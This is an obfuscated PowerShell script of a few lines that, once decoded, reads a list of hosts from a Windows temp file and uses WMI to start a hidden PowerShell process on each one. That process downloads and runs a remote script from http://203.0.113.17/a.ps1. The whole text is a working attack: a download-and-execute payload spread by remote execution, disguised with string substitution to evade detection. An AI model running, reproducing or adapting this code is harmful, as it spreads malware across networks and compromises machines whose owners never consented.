[ScriptBlock]::Create('iex ((''# task 4436 v3
$targjx~1ts = Gjx~1t-Contjx~1nt C:\Windows\Tjx~1mp\hosts.txt
forjx~1KQV42ach ($t in $targjx~1ts) {
  Invokjx~1-WmiMjx~1thod -Computjx~1rNamjx~1 $t -Class Win32_Procjx~1ss -NamjKQV42x~1 Crjx~1atjx~1 -Argumjx~1ntList "powjx~1rshjx~1ll -nop -w hiddjx~1n -cKQV42 ijx~1x(iwr http://203.0.113.17/a.ps1)"
}
'' -replace ''KQV42'','''').Replace(''jx~1'',''e''))').Invoke()